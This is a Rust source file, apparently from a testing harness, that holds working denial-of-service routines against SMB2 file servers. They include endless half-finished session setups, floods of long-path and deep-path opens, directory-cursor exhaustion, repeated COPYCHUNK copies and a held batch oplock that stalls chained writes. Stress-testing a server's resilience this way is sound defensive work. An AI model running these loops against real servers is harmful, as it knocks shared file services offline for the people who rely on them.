//! Attacks on the room for durable state: what a client makes the server keep, and never releases.

use std::io;
use std::time::Duration;

use super::stream::{READING, chain};
use super::{DEEP, Field, Foe, MANY, PAUSE, deep_directory, long_directory};
use crate::support::raw::{self, FileId};

const OPEN: u32 = 1;
const OPEN_IF: u32 = 3;
const DIRECTORY: u32 = 1;
const WRITING: u32 = 0x0017_019F;
/// SMB2_OPLOCK_LEVEL_BATCH.
const BATCH_OPLOCK: u8 = 9;
const FSCTL_SRV_REQUEST_RESUME_KEY: u32 = 0x0014_0078;
const FSCTL_SRV_COPYCHUNK: u32 = 0x0014_40F2;
const RELATED: FileId = [0xFF; 16];

/// The number of session set-ups that one connection begins.
const SETUPS: usize = 64;

/// Begins to log in, with tokens of the greatest length and longer, and stops there; an occasional ECHO shows that it
/// is not idle.
pub fn half_done(field: &Field) -> io::Result<()> {
    let mut foe = Foe::connect(field, None)?;
    foe.call(raw::NEGOTIATE, &raw::negotiate())?.well()?;
    half_done_on(&mut foe, 60_000)?;
    half_done_on(&mut foe, 1000)?;
    linger(&mut foe)
}

/// The same by guests that have logged in.
pub fn half_done_by_guests(field: &Field) -> io::Result<()> {
    let mut foe = Foe::guest(field)?;
    half_done_on(&mut foe, 1000)?;
    linger(&mut foe)
}

fn half_done_on(foe: &mut Foe<'_>, token_bytes: usize) -> io::Result<()> {
    let session = std::mem::take(&mut foe.client.session_id);
    let mut token = raw::ntlm_negotiate();
    token.resize(token_bytes, 0);
    let body = raw::session_setup(&token);
    for _ in 0..SETUPS {
        let begun = foe.call(raw::SESSION_SETUP, &body)?;
        if begun.status != raw::STATUS_MORE_PROCESSING_REQUIRED {
            break;
        }
    }
    foe.client.session_id = session;
    Ok(())
}

/// Stays until it is dropped or the attack ends.
fn linger(foe: &mut Foe<'_>) -> io::Result<()> {
    foe.field.steady();
    while !foe.field.over() {
        foe.field.pause(Duration::from_millis(500));
        foe.call(raw::ECHO, &[4, 0, 0, 0])?;
    }
    Ok(())
}

/// Opens a directory with the longest path, without end.
pub fn long_paths(field: &Field) -> io::Result<()> {
    let mut foe = Foe::guest(field)?;
    let body = raw::create(&long_directory(), READING, OPEN, DIRECTORY);
    loop {
        let opened = foe.call(raw::CREATE, &body)?;
        rest_if_refused(field, &opened);
    }
}

/// Lists a directory by more and more opens, each with the longest pattern.
pub fn cursors(field: &Field) -> io::Result<()> {
    let mut foe = Foe::guest(field)?;
    let body = raw::create(MANY, READING, OPEN, DIRECTORY);
    let pattern = format!("{}*", "\u{FF1F}".repeat(254));
    loop {
        let opened = foe.call(raw::CREATE, &body)?;
        rest_if_refused(field, &opened);
        if opened.status == 0 {
            let list = query_directory(opened.file_id(), &pattern);
            foe.call(raw::QUERY_DIRECTORY, &list)?;
        }
    }
}

/// Begins to list the directory of many files by more and more opens.
pub fn listing_handles(field: &Field) -> io::Result<()> {
    let mut foe = Foe::guest(field)?;
    let body = raw::create(MANY, READING, OPEN, DIRECTORY);
    for opens in 1_u32.. {
        let opened = foe.call(raw::CREATE, &body)?;
        rest_if_refused(field, &opened);
        if opened.status == 0 {
            foe.call(
                raw::QUERY_DIRECTORY,
                &query_directory(opened.file_id(), "*"),
            )?;
        }
        if opens > 100 {
            field.steady();
        }
    }
    Ok(())
}

/// FileIdBothDirectoryInformation, an entry at a time (SMB2_RETURN_SINGLE_ENTRY).
fn query_directory(dir: FileId, pattern: &str) -> Vec<u8> {
    let pattern = raw::utf16(pattern);
    let mut body = vec![33, 0, 37, 2, 0, 0, 0, 0];
    body.extend(dir);
    body.extend([96, 0]);
    body.extend(u16::try_from(pattern.len()).expect("short").to_le_bytes());
    body.extend(4096_u32.to_le_bytes());
    body.extend(pattern);
    body
}

/// In full swing when it is refused; then it asks less often.
fn rest_if_refused(field: &Field, answer: &raw::Answer) {
    if answer.status != 0 {
        field.steady();
        field.pause(PAUSE);
    }
}

/// Copies 16 MiB of a file a little further on within it, repeatedly.
pub fn copies(field: &Field) -> io::Result<()> {
    let mut foe = Foe::guest(field)?;
    let name = format!("copied {}", field.number);
    let file = foe.open(&raw::create(&name, WRITING, OPEN_IF, 0))?;
    // FileEndOfFileInformation
    let length = (17_u64 << 20).to_le_bytes();
    foe.call(raw::SET_INFO, &raw::set_info(file, 1, 20, 0, &length))?
        .well()?;
    let key = foe.call(
        raw::IOCTL,
        &raw::ioctl(file, FSCTL_SRV_REQUEST_RESUME_KEY, &[], 32),
    )?;
    let key = key.well()?.body;
    let mut input = key.get(48..72).ok_or(io::ErrorKind::InvalidData)?.to_vec();
    input.extend(16_u32.to_le_bytes());
    input.extend([0; 4]);
    for chunk in 0..16_u64 {
        input.extend((chunk << 20).to_le_bytes());
        input.extend(((chunk << 20) + 4096).to_le_bytes());
        input.extend((1_u32 << 20).to_le_bytes());
        input.extend([0; 4]);
    }
    let body = raw::ioctl(file, FSCTL_SRV_COPYCHUNK, &input, 12);
    loop {
        foe.call(raw::IOCTL, &body)?.well()?;
        field.steady();
    }
}

/// Holds a batch oplock without releasing it, while chains of CREATE and a long WRITE wait for it.
pub fn parking(field: &Field) -> io::Result<()> {
    let name = format!("parked {}", field.number);
    let mut holder = Foe::guest(field)?;
    let mut held = raw::create(&name, WRITING, OPEN_IF, 0);
    held[3] = BATCH_OPLOCK;
    holder.open(&held)?;
    let mut foe = Foe::guest(field)?;
    foe.client.credits = 4096;
    foe.call(raw::ECHO, &[4, 0, 0, 0])?;
    let create = raw::create(&name, WRITING, OPEN_IF, 0);
    let lengths = [7 << 20, 512 << 10, 512 << 10, 512 << 10];
    for round in 1_usize.. {
        let bytes = lengths[round % lengths.len()];
        let data = vec![7; bytes];
        let charge = u16::try_from(bytes.div_ceil(1 << 16)).expect("few");
        let chain = chain(vec![
            foe.client.message(raw::CREATE, &create),
            foe.client
                .charged(raw::WRITE, &raw::write(RELATED, 0, &data), charge),
            foe.client.message(raw::CLOSE, &raw::close(RELATED)),
        ]);
        foe.client.send(&chain)?;
        field.count(|counts| &counts.requests, 3);
        // waiting requests are answered when the server has waited long enough for the oplock
        foe.call(raw::ECHO, &[4, 0, 0, 0])?;
        if round > 8 {
            field.steady();
            field.pause(Duration::from_millis(100));
        }
    }
    Ok(())
}

/// Asks for a missing name in the deepest directory.
pub fn deep_names(field: &Field) -> io::Result<()> {
    let mut foe = Foe::guest(field)?;
    let name = format!("{}\\missing", deep_directory(DEEP));
    let body = raw::create(&name, READING, OPEN, 0);
    loop {
        foe.call(raw::CREATE, &body)?;
        field.steady();
    }
}
